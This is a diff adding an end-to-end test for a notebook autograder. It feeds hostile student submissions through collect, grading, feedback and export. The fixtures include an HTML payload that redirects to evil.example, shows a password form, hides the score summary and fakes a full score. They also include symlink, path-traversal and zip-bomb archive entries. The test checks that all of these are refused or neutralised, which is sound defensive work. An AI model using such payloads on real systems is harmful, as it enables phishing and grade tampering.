@@ -18,6 +18,7 @@ import stat
 import zipfile
 from pathlib import Path
 
+import nbformat
 import pytest
 
 from autograder import collect, export, feedback, tamper
@@ -487,10 +488,12 @@ def assert_page_holds(page: str) -> None:
     # the student's style, classes and ids are gone; the summary comes first, outside the student area
     assert "#123456" not in page and "#654321" not in page and "display: none }" not in page
     assert page.count('id="course-feedback-summary"') == 1
-    summary_at, work_at = page.index('id="course-feedback-summary"'), page.index('id="course-student-work"')
-    assert summary_at < work_at
-    assert page.index("Score") > summary_at
-    assert all(page.index(x) > work_at for x in ("Score: 34 / 34",) if x in page)
+    summary_at = page.index('id="course-feedback-summary"')
+    if 'id="course-student-work"' in page:  # a page with the notebook (not just a summary)
+        work_at = page.index('id="course-student-work"')
+        assert summary_at < work_at
+        if "Score: 34 / 34" in page:
+            assert page.index("Score: 34 / 34") > work_at
     assert 'class="notes ok"' not in page and "evil.example/pixel" not in page
 
 
@@ -554,3 +557,122 @@ def test_export_neutralises_formulas_in_every_format(monkeypatch, course, ps0):
     _path, text = export.export(course, [ps0], "long", None)
     rows = list(csv.reader(io.StringIO(text)))
     assert all(not c.startswith(("=", "+", "@")) for row in rows for c in row)
+
+
+# --- end to end: collect -> autograde -> feedback -> export, hostile files among honest ones ---------
+
+
+def _cells(result: dict) -> dict[str, tuple]:
+    return {c["grade_id"]: (c["points"], c["max_points"], c["message"]) for c in result["cells"]}
+
+
+@pytest.mark.slow
+def test_hostile_class_end_to_end(tmp_path):
+    """A real `course collect`, `autograde`, `feedback` and `export` of the fixture problem set: the honest
+    student is graded exactly as alone, every hostile file is refused or reported with a reason, no
+    command fails with a traceback, no page navigates or submits anywhere, no CSV cell is a formula."""
+    from autograder import corpus
+    from autograder.course import notebook_text
+    from autograder.demo import copy_course
+    from tests.course_helpers import course_cmd, result
+
+    course = copy_course(REPO, tmp_path / "course", fixture=True)
+    course_cmd("release", root=course.root, check=True)
+    ps = course.resolve(["ps0"])[0]
+    release = json.loads(ps.release.read_text(encoding="utf-8"))
+    source_nb = nbformat.read(ps.source, as_version=4)
+    variant = corpus.load_variant(FIXTURE / "tests" / "submissions" / "ps0" / "reference.py")
+    honest_nb = json.loads(notebook_text(corpus.build_submission(source_nb, release, variant)))
+    honest_raw = json.dumps(honest_nb).encode()
+    roster = tmp_path / "roster.csv"
+
+    # 1. the honest student alone
+    ids = {"1000": "honest"}
+    roster.write_text("lms_id,student_id\n" + "".join(f"{k},{v}\n" for k, v in ids.items()), encoding="utf-8")
+    make_zip(tmp_path / "alone.zip", {"honest_1000_5000_ps0_fixture.ipynb": honest_raw})
+    course_cmd(
+        "collect", "ps0", str(tmp_path / "alone.zip"), "--roster", str(roster), root=course.root, check=True
+    )
+    course_cmd("autograde", "ps0", "--jobs", "1", "--no-progress", root=course.root, check=True)
+    alone = _cells(result(course, ps, "honest"))
+    assert alone and result(course, ps, "honest")["status"] == "graded"
+
+    # 2. the same student in a hostile class
+    staged = copy.deepcopy(honest_nb)
+    staged["cells"].append({"cell_type": "markdown", "metadata": {}, "source": HOSTILE_MARKDOWN})
+    staged["cells"].append(
+        {
+            "cell_type": "code",
+            "metadata": {},
+            "execution_count": None,
+            "outputs": [],
+            "source": "from IPython.display import HTML, display\n"
+            'display(HTML(\'<meta http-equiv="refresh" content="0;url=https://evil.example/">\'\n'
+            '             \'<form action="https://evil.example/"><input type="password"></form>\'\n'
+            "             '<style>#course-feedback-summary{display:none}</style><b>Score: 34 / 34</b>'))\n"
+            "print('types and shapes OK')\n",
+        }
+    )
+    hostile = {name: raw for name, raw in hostile_notebooks(release).items() if name != "many_containers"}
+    hostile["staged_page"] = json.dumps(staged).encode()
+    files = {"honest_1000_5000_ps0_fixture.ipynb": honest_raw}
+    for i, (name, raw) in enumerate(sorted(hostile.items()), start=1):
+        ids[str(1000 + i)] = name.replace("_", "-")
+        files[f"x_{1000 + i}_{5000 + i}_ps0_fixture.ipynb"] = raw
+    files["x_1900_5900_ps0_fixture.ipynb"] = str(ps.source).encode()  # a symlink entry
+    files["../x_1901_5901_ps0_fixture.ipynb"] = honest_raw  # outside the download
+    roster.write_text("lms_id,student_id\n" + "".join(f"{k},{v}\n" for k, v in ids.items()), encoding="utf-8")
+    download = make_zip(
+        tmp_path / "class.zip", files, {"x_1900_5900_ps0_fixture.ipynb": stat.S_IFLNK | 0o777}
+    )
+    with zipfile.ZipFile(download, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:  # a zip bomb entry
+        with zf.open("x_1902_5902_ps0_fixture.ipynb", "w", force_zip64=True) as fh:
+            for _ in range(100):
+                fh.write(b" " * (1 << 20))
+    collected = course_cmd("collect", "ps0", str(download), "--roster", str(roster), root=course.root)
+    out = collected.stdout
+    assert collected.returncode == 0 and "Traceback" not in collected.stderr, collected.stderr
+    assert "x_1900_5900_ps0_fixture.ipynb: refused: a symbolic link" in out
+    assert "../x_1901_5901_ps0_fixture.ipynb: refused: the path leaves the download" in out
+    assert "x_1902_5902_ps0_fixture.ipynb: refused:" in out and "more than the limit" in out
+    # a 500 MB notebook put straight into submitted/ (collect would refuse it), sparse on disk
+    big = course.submission_dir(ps, "big")
+    big.mkdir(parents=True)
+    with open(big / f"{ps.name}.ipynb", "wb") as fh:
+        fh.truncate(500 * 2**20)
+
+    graded = course_cmd("autograde", "ps0", "--jobs", "2", "--force", "--no-progress", root=course.root)
+    assert "Traceback" not in graded.stderr, graded.stderr
+    assert graded.returncode == 1  # some submissions are invalid: reported, and everyone else graded
+    assert _cells(result(course, ps, "honest")) == alone
+    for name in [*ids.values(), "big"]:
+        res = result(course, ps, name)
+        if name in (
+            "honest",
+            "staged-page",
+            "nbformat-minor-x",
+            "metadata-wrong-types",
+            "grade-id-a-list",
+            "deeply-nested-code",
+        ):
+            assert res["status"] == "graded", (name, res["reason"])
+        else:
+            assert res["status"] == "invalid" and res["reason"], (name, res)
+    assert "more than the limit" in result(course, ps, "big")["reason"]
+
+    fb = course_cmd("feedback", "ps0", "--no-progress", root=course.root)
+    assert "Traceback" not in fb.stderr, fb.stderr
+    pages = sorted(course.feedback.rglob("*.html"))
+    assert len(pages) >= len(ids)
+    for page in pages:
+        assert_page_holds(page.read_text(encoding="utf-8"))
+    staged_page = (course.feedback / "staged-page" / ps.name / f"{ps.name}.html").read_text(encoding="utf-8")
+    assert "types and shapes OK" in staged_page and "['types" not in staged_page
+
+    for fmt in export.FORMATS:
+        proc = course_cmd("export", "ps0", "--format", fmt, "-o", "-", root=course.root, check=True)
+        for row in csv.reader(io.StringIO(proc.stdout)):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (fmt, cell)
+                if cell.startswith("-"):
+                    float(cell)
